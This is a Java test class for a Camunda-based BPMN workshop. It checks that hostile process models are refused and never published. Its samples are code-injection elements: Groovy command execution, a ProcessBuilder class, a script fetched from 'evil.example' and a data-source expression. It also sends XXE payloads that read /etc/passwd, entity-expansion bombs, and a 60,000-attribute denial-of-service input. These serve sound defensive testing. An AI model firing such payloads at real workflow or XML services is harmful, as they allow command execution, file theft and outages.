package fi.polku.workshop.exchange;

import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.jayway.jsonpath.JsonPath;
import fi.polku.PolkuTest;
import fi.polku.security.Role;
import fi.polku.worklist.Tryout;
import fi.polku.workshop.DraftedModel;
import org.camunda.bpm.engine.RepositoryService;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Models with tricks, sent over the wire to the workshop and to the engine's own address:
 * what is wrong is told where it stands, nobody can ask for it to be published, and the
 * engine never sees it.
 */
@PolkuTest
class HostileModelsTests {

	private static final String OWNER = "tricks-owner";

	/** By the word that the fault tells of it. */
	private static final List<String> TRICKS = List.of(
			"script|<bpmn:scriptTask id='%s' scriptFormat='groovy'><bpmn:script>'id'.execute()</bpmn:script></bpmn:scriptTask>",
			"class|<bpmn:serviceTask id='%s' camunda:class='java.lang.ProcessBuilder'/>",
			"expression|<bpmn:serviceTask id='%s' camunda:expression='${dataSource.connection}'/>",
			"type|<bpmn:serviceTask id='%s' camunda:type='shell'/>",
			"connector|<bpmn:serviceTask id='%s' camunda:delegateExpression='${bookInterview}'><bpmn:extensionElements><camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector></bpmn:extensionElements></bpmn:serviceTask>",
			"executionListener|<bpmn:task id='%s'><bpmn:extensionElements><camunda:executionListener event='start' class='x.Y'/></bpmn:extensionElements></bpmn:task>",
			"taskListener|<bpmn:userTask id='%s'><bpmn:extensionElements><camunda:taskListener event='create' delegateExpression='${x}'/></bpmn:extensionElements></bpmn:userTask>",
			"script|<bpmn:task id='%s'><bpmn:extensionElements><camunda:inputOutput><camunda:inputParameter name='a'><camunda:script scriptFormat='javascript'>1</camunda:script></camunda:inputParameter></camunda:inputOutput></bpmn:extensionElements></bpmn:task>",
			"variableMappingClass|<bpmn:callActivity id='%s' calledElement='plan' camunda:variableMappingClass='x.Y'/>",
			"formKey|<bpmn:userTask id='%s' camunda:formKey='embedded:app:x.html'/>",
			"class|<bpmn:serviceTask xmlns:old='http://activiti.org/bpmn' id='%s' old:class='x.Y'/>",
			"resource|<bpmn:scriptTask id='%s' scriptFormat='js' camunda:resource='http://evil.example/a.js'/>",
			"delegateExpression|<bpmn:serviceTask id='%s' camunda:delegateExpression='${dataSource}'/>");

	private final String model = "tricks" + UUID.randomUUID().toString().substring(0, 8);

	@Autowired
	TestRestTemplate rest;

	@Autowired
	Tryout tryout;

	@Autowired
	RepositoryService repository;

	@BeforeEach
	void people() {
		this.tryout.person(OWNER, Role.OWNER);
	}

	@Test
	void codeInAModel_isToldByItsPlace() throws Exception {
		var steps = new StringBuilder();
		for (int i = 0; i < TRICKS.size(); i++) {
			steps.append(TRICKS.get(i).split("\\|", 2)[1].formatted(this.model + "Step" + i));
		}
		var bpmn = DraftedModel.bpmn(this.model, "Puhu").replace("<bpmn:endEvent", steps + "<bpmn:endEvent");
		var sent = deployed(bpmn);
		assertThat(sent.getStatusCode()).as(sent.getBody()).isEqualTo(HttpStatus.OK);

		for (var draft : List.of(begun(bpmn), (String) JsonPath.read(sent.getBody(), "$.id"))) {
			var faults = faults(draft);
			for (int i = 0; i < TRICKS.size(); i++) {
				told(faults, this.model + "Step" + i, TRICKS.get(i).split("\\|", 2)[0]);
			}
			assertThat(post("/api/drafts/" + draft + "/ask", "").getStatusCode()).isEqualTo(HttpStatus.CONFLICT);
			assertThat(post("/api/drafts/" + draft + "/publish", "").getStatusCode().is4xxClientError()).isTrue();
		}
		neverPublished();
	}

	/** What reads other files or addresses, or grows without end, is no model at all. */
	@ParameterizedTest
	@CsvSource(delimiter = '|', quoteCharacter = '\u0001',
			value = { "<!DOCTYPE x SYSTEM \"http://localhost:1/evil.dtd\">|",
					"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>|&e;",
					"<!DOCTYPE x [<!ENTITY %% p SYSTEM \"file:///etc/passwd\"> %%p;]>|",
					"<!DOCTYPE x PUBLIC \"-//x\" \"http://localhost:1/evil.dtd\">|",
					"<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]>|&b;" })
	void typesAndEntities_areRefused(String type, String used) throws Exception {
		var name = (used != null) ? used : "Puhu";
		var bpmn = DraftedModel.bpmn(this.model, name)
			.replace("encoding=\"UTF-8\"?>", "encoding=\"UTF-8\"?>\n" + type.replace("%%", "%"));
		assertThat(bpmn).contains("DOCTYPE");

		var faults = faults(begun(bpmn));
		assertThat((List<String>) JsonPath.read(faults, "$[*].code")).containsOnly("doctypeInFile");
		assertThat(faults).doesNotContain("root:", "haha");

		var sent = deployed(bpmn);
		assertThat(sent.getStatusCode()).as(sent.getBody()).isEqualTo(HttpStatus.UNPROCESSABLE_ENTITY);
		assertThat((String) JsonPath.read(sent.getBody(), "$.message")).contains("a.bpmn").doesNotContain("root:");
		neverPublished();
	}

	/** The time of comparing them with each other grows with their square. */
	@Test
	void elementOfManyAttributes_isRefusedAtOnce() throws Exception {
		var many = IntStream.range(0, 60_000).mapToObj((i) -> "a" + i + "='x'").collect(Collectors.joining(" "));
		var bpmn = DraftedModel.bpmn(this.model, "Puhu").replaceFirst("<bpmn:process ", "<bpmn:process " + many + " ");
		assertThat(bpmn).contains("a59999='x'");
		var began = System.nanoTime();

		var faults = faults(begun(bpmn));
		assertThat((List<String>) JsonPath.read(faults, "$[*].code")).containsOnly("notReadable");
		assertThat(faults).contains("process", "500").doesNotContain("JAXP");
		var sent = deployed(bpmn);
		assertThat(sent.getStatusCode()).as(sent.getBody()).isEqualTo(HttpStatus.UNPROCESSABLE_ENTITY);
		assertThat((String) JsonPath.read(sent.getBody(), "$.message")).contains("500");

		assertThat(Duration.ofNanos(System.nanoTime() - began)).isLessThan(Duration.ofSeconds(5));
		neverPublished();
	}

	/** By the workshop's own interface. */
	private String begun(String bpmn) throws JsonProcessingException {
		var answer = post("/api/models/" + this.model + "/drafts",
				new ObjectMapper().writeValueAsString(Map.of("files", Map.of(this.model + ".bpmn", bpmn))));
		assertThat(answer.getStatusCode()).as(answer.getBody()).isEqualTo(HttpStatus.CREATED);
		return JsonPath.read(answer.getBody(), "$.draft.id");
	}

	/** By the deploy button of Modeler. */
	private ResponseEntity<String> deployed(String bpmn) {
		return new Modeler(this.rest, OWNER).deploys("Temppu", Map.of("a.bpmn", bpmn));
	}

	/** A bean that is no step is told by its name, all else as code. */
	private static void told(String faults, String element, String word) {
		var code = "delegateExpression".equals(word) ? "" : " && @.code == 'codeInModel'";
		List<String> says = JsonPath.read(faults, "$[?(@.element == '" + element + "'" + code + ")].says");
		assertThat(says).as(element + faults)
			.anySatisfy((one) -> assertThat(one)
				.contains("delegateExpression".equals(word) ? "dataSource" : "(" + word + ")"));
	}

	private String faults(String draft) {
		var answer = post("/api/drafts/" + draft + "/check", "");
		assertThat(answer.getStatusCode()).as(answer.getBody()).isEqualTo(HttpStatus.OK);
		return answer.getBody();
	}

	private void neverPublished() {
		assertThat(this.repository.createProcessDefinitionQuery().processDefinitionKey(this.model).count()).isZero();
	}

	private ResponseEntity<String> post(String path, String json) {
		var headers = new HttpHeaders();
		headers.setContentType(MediaType.APPLICATION_JSON);
		return this.rest.withBasicAuth(OWNER, "polku-demo")
			.postForEntity(path, new HttpEntity<>(json.isEmpty() ? null : json, headers), String.class);
	}

}
